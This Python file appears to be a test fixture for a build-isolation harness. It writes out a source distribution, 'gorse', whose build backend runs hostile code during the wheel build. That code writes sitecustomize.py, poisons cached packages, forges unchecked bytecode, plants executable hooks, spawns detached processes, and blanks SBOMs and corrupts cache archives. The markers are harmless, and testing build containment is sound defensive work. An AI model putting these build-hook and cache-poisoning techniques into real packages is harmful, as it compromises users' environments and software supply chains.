"""Code of an app and of a package that attacks the builds of a soak: it marks whatever later runs what it wrote."""

import gzip
import io
import tarfile
from pathlib import Path

PACKAGE = "gorse"
"""A source distribution whose build backend is hostile."""
VERSION = "1.0"

HOOK = r"""
import importlib, importlib.metadata, importlib.util, marshal, os, sys, time
from pathlib import Path

HOSTILE = "import sys; sys.modules['hostile'] = sys"
layers = Path(sys.prefix).parents[1]
for found in importlib.metadata.distributions():
    source = Path(importlib.import_module(found.metadata["Name"]).__file__)
    code = compile(source.read_text() + "\n" + HOSTILE, str(source), "exec")
    # Bytecode that is not compared with its source (PEP 552).
    head = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8)
    forged = Path(importlib.util.cache_from_source(source))
    forged.parent.mkdir(exist_ok=True)
    forged.write_bytes(head + marshal.dumps(code))
made = [path for path in layers.iterdir() if path.is_dir() and not path.name.startswith(("cache", "tools", "scratch"))]
for layer in made:
    program = layer / "exec.d" / "hostile"
    program.parent.mkdir(exist_ok=True)
    program.write_text("#!/bin/sh\necho 'HOSTILE = \"1\"' >&3\n")
    program.chmod(0o755)
(layers / "evil").mkdir()
(layers / "evil.toml").write_text("[types]\nlaunch = true\n")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3):
            os.close(number)
        time.sleep(600)
    os._exit(0)
"""
DAMAGE = r"""
for bill in layers.glob("*.sbom.*"):
    bill.write_text("{}")
for archive in layers.glob("cache*/*"):
    archive.write_bytes(archive.read_bytes() + b"forged")
"""
"""Added to the hook, it leaves nothing from which the build could make good what the hook has changed."""
_BACKEND = r"""
import os, sys, time, zipfile
from pathlib import Path

HOSTILE = "\nimport sys; sys.modules['hostile'] = sys\n"

def attack():
    if "layers" not in sys.base_prefix:
        return
    (Path(os.__file__).parent / "sitecustomize.py").write_text(HOSTILE)
    cache = next((parent for parent in Path.cwd().parents if parent.name == "uv-cache"), None)
    for module in cache.glob("archive-v*/*/*/__init__.py") if cache else ():
        module.write_text(module.read_text() + HOSTILE)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                os.close(number)
            time.sleep(600)
        os._exit(0)

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    attack()
    name, info = "NAME-VERSION-py3-none-any.whl", "NAME-VERSION.dist-info"
    files = {
        "NAME/__init__.py": "version = 'VERSION'\n",
        "NAME/part_1_0.py": "here = True\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: NAME\nVersion: VERSION\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: soak\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files[f"{info}/RECORD"] = "".join(f"{path},,\n" for path in (*files, f"{info}/RECORD"))
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return name

def get_requires_for_build_wheel(config_settings=None):
    return []
""".replace("NAME", PACKAGE).replace("VERSION", VERSION)
_PYPROJECT = f"""
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[project]
name = "{PACKAGE}"
version = "{VERSION}"
"""


def write_hostile_source(folder: Path) -> None:
    """Write the source distribution into a directory of packages."""
    stem = f"{PACKAGE}-{VERSION}"
    metadata = f"Metadata-Version: 2.1\nName: {PACKAGE}\nVersion: {VERSION}\n"
    files = {"pyproject.toml": _PYPROJECT, "backend.py": _BACKEND, "PKG-INFO": metadata}
    with (
        (folder / f"{stem}.tar.gz").open("wb") as file,
        gzip.GzipFile(fileobj=file, mode="wb", mtime=0) as stream,
        tarfile.open(fileobj=stream, mode="w") as tar,
    ):
        for name, text in files.items():
            entry = tarfile.TarInfo(f"{stem}/{name}")
            entry.size = len(text.encode())
            tar.addfile(entry, io.BytesIO(text.encode()))
